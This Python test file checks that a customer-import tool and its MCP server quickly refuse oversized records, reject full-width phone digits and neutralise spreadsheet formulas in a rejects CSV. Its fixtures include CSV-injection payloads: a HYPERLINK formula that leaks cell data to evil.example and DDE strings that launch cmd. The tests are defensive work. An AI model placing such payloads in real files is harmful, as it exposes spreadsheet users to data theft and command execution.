"""Hostile records and files through the real engine, the real MCP HTTP server and the
simulators: one record of 60,000 keys, a CSV of 60,000 columns, full-width phone digits,
formulas in the rejected-rows CSV (issue 14, items 2 and 13 and the rejects CSV).

Each case is refused (or neutralised) in well under a second; before, the 60,000-key record
took 14-32 s of one event loop, and the server's `/healthz` waited as long.
"""

from __future__ import annotations

import asyncio
import csv
import json
import time
from pathlib import Path
from typing import Any

import anyio
import httpx
import pytest

from tests.sandbox_fixtures import Sandbox
from tests.server.mcp_http import INITIALIZE, MCP_HEADERS, serve_mcp_http
from tools.bulk import BulkVendor, bulk_import
from tools.bulk.readers import MAX_COLUMNS
from tools.customers import import_customer
from tools.errors import InputError
from tools.services import Services
from tools.settings import Settings
from tools.storage.audit import Actor

ACTOR = Actor("library", "pytest")
WIDE = 60_000
FAST = 2.0
"""Seconds a refusal of the widest input may take (the old code took 12-32 s)."""
HEALTHZ_BOUND = 0.5
"""Seconds `/healthz` may take meanwhile (measured: see the README's Security section)."""
TOKEN = "hostile-records-token-8c1d-5e2f9a7b3c4d"
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C notepad'!A0",
    "+SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]
DANGEROUS_STARTS = ("=", "+", "-", "@", "\t", "\r")
PROTOCOL_VERSION = "2025-06-18"
"""The MCP version `INITIALIZE` asks for, which each later request names."""
NEW_CONNECTIONS = httpx.Limits(max_keepalive_connections=0)
"""A new connection a probe, as a load balancer's: a kept-alive one adds a delayed ACK."""


def wide_record(vendor: BulkVendor, keys: int = WIDE) -> dict[str, Any]:
    """A valid customer plus `keys` keys that match no field (0.9 MB as JSON)."""
    base: dict[str, Any] = (
        {"whatsApp": "8618221733141", "friendName": "宽"}
        if vendor == "socialepoch"
        else {"customerName": "宽科技"}
    )
    return base | {f"x{n:05d}": "v" for n in range(keys)}


def wide_csv(path: Path, vendor: BulkVendor, columns: int = WIDE) -> Path:
    """A CSV of one customer whose row fills `columns` columns (0.5 MB)."""
    header, row = (
        (["whatsApp"], ["8618221733141"]) if vendor == "socialepoch" else (["客户名称"], ["宽科技"])
    )
    header += [f"c{n}" for n in range(columns - 1)]
    row += ["v"] * (columns - 1)
    with path.open("w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows([header, row])
    return path


@pytest.mark.parametrize("vendor", ["socialepoch", "xiaolanben"])
async def test_a_record_of_60000_keys_is_refused_at_once_with_one_clear_problem(
    services: Services, vendor: BulkVendor
) -> None:
    started = time.perf_counter()
    with pytest.raises(InputError) as caught:
        await import_customer(
            services, vendor=vendor, customers=[wide_record(vendor)], dry_run=True, actor=ACTOR
        )
    took = time.perf_counter() - started

    assert took < FAST
    [problem] = caught.value.problems
    assert f"{WIDE + len(wide_record(vendor, 0)):,}" in problem.message
    assert f"at most {MAX_COLUMNS:,}" in problem.message


@pytest.mark.parametrize("vendor", ["socialepoch", "xiaolanben"])
async def test_a_csv_of_60000_columns_is_refused_at_once_with_one_clear_problem(
    tmp_path: Path, services: Services, vendor: BulkVendor
) -> None:
    path = wide_csv(tmp_path / "wide.csv", vendor)

    started = time.perf_counter()
    with pytest.raises(InputError) as caught:
        await bulk_import(
            services, source=path, vendor=vendor, store=None, actor=ACTOR, dry_run=True
        )
    took = time.perf_counter() - started

    assert took < FAST
    [problem] = caught.value.problems
    assert f"{WIDE:,}" in problem.message
    assert f"at most {MAX_COLUMNS:,}" in problem.message


async def test_many_different_extended_fields_over_many_records_are_refused(
    services: Services,
) -> None:
    """Each record within the limits, but 30 x 80 different extended fields in all: no
    tenant has that many (and the report would list every one)."""
    customers = [
        {"whatsApp": f"86138{n:08d}", **{f"field_{n}_{k}": "v" for k in range(80)}}
        for n in range(30)
    ]
    with pytest.raises(InputError) as caught:
        await import_customer(
            services, vendor="socialepoch", customers=customers, dry_run=True, actor=ACTOR
        )
    [problem] = caught.value.problems
    assert "different columns match no field" in problem.message


async def test_healthz_answers_while_the_60000_key_record_is_checked(settings: Settings) -> None:
    # The call's body is encoded before the clock starts and sent as bytes: this process
    # does next to nothing meanwhile, so the probes time the server's own event loop.
    call = json.dumps(
        {
            "jsonrpc": "2.0",
            "id": 2,
            "method": "tools/call",
            "params": {
                "name": "import_customer",
                "arguments": {
                    "vendor": "socialepoch",
                    "customers": [wide_record("socialepoch")],
                    "dry_run": True,
                },
            },
        }
    ).encode()
    latencies: list[float] = []
    with serve_mcp_http(settings, TOKEN) as url, anyio.fail_after(30):
        async with (
            httpx.AsyncClient(timeout=10, limits=NEW_CONNECTIONS) as probe,
            httpx.AsyncClient(timeout=30) as http,
        ):
            headers = await _mcp_session(http, url)
            done = asyncio.Event()

            async def poll_health() -> None:
                while not done.is_set():
                    started = time.perf_counter()
                    answer = await probe.get(f"{url}/healthz")
                    latencies.append(time.perf_counter() - started)
                    assert answer.status_code == 200
                    await asyncio.sleep(0.002)

            polling = asyncio.create_task(poll_health())
            await asyncio.sleep(0.05)  # the probe is warm before the record goes out
            started = time.perf_counter()
            answer = await http.post(f"{url}/mcp", content=call, headers=headers)
            took = time.perf_counter() - started
            done.set()
            await polling

    assert answer.status_code == 200
    assert '"isError":true' in answer.text
    assert f"at most {MAX_COLUMNS:,}" in answer.text
    assert took < FAST
    assert max(latencies) < HEALTHZ_BOUND, f"slowest /healthz {max(latencies):.3f} s"


async def _mcp_session(http: httpx.AsyncClient, url: str) -> dict[str, str]:
    """An initialized MCP session on `url`: the headers its requests carry."""
    headers = {**MCP_HEADERS, "Authorization": f"Bearer {TOKEN}"}
    answer = await http.post(f"{url}/mcp", json=INITIALIZE, headers=headers)
    assert answer.status_code == 200
    headers |= {"Content-Type": "application/json", "Mcp-Protocol-Version": PROTOCOL_VERSION}
    session = answer.headers.get("mcp-session-id")  # none from stateless HTTP (the default)
    if session is not None:
        headers["Mcp-Session-Id"] = session
    initialized = {"jsonrpc": "2.0", "method": "notifications/initialized"}
    assert (await http.post(f"{url}/mcp", json=initialized, headers=headers)).status_code == 202
    return headers


async def test_a_full_width_contact_phone_is_refused_so_the_company_keeps_one_contact(
    services: Services, sandbox: Sandbox
) -> None:
    company = {"customerName": "蓝本科技", "entName": "上海蓝本网络科技有限公司"}
    ascii_phone = [{**company, "contacts": [{"name": "王芳", "phone": "13712345678"}]}]
    full_width = [{**company, "contacts": [{"name": "王芳", "phone": "１３７１２３４５６７８"}]}]

    await import_customer(services, vendor="xiaolanben", customers=ascii_phone, actor=ACTOR)
    with pytest.raises(InputError) as caught:
        await import_customer(services, vendor="xiaolanben", customers=full_width, actor=ACTOR)

    [problem] = caught.value.problems
    assert problem.field == "contacts[0].phone"
    assert "13712345678" in problem.message  # the spelling to use instead
    [stored] = sandbox.xiaolanben.customers.values()
    assert [contact.phone for contact in stored.contacts] == ["13712345678"]


async def test_every_cell_of_the_rejects_csv_is_neutralised_and_quoted(
    tmp_path: Path, services: Services
) -> None:
    # Formulas as the identity (whatsApp), as an extended field's name and as its value.
    rows = [[formula, "ok", "x"] for formula in FORMULAS]
    rows += [["8613800000001", "=1+1", "y"], ["8613800000002", "ok", "@SUM(A1)"]]
    source = tmp_path / "in.csv"
    with source.open("w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows([["whatsApp", "=cmd|'/C calc'!A0", "备注"], *rows])
    rejects = tmp_path / "rejects.csv"

    await bulk_import(
        services,
        source=source,
        vendor="socialepoch",
        store=None,
        actor=ACTOR,
        dry_run=True,
        rejections_csv=rejects,
    )

    text = rejects.read_text(encoding="utf-8-sig")
    with rejects.open(encoding="utf-8-sig", newline="") as handle:
        written = list(csv.reader(handle))
    cells = [cell for row in written for cell in row]
    assert len(written) > len(FORMULAS)
    assert not [cell for cell in cells if cell.startswith(DANGEROUS_STARTS)]
    identities = [row[3] for row in written[1:]]
    assert {"'" + formula.strip() for formula in FORMULAS} <= set(identities)
    assert all(line.startswith('"') for line in text.splitlines() if line)
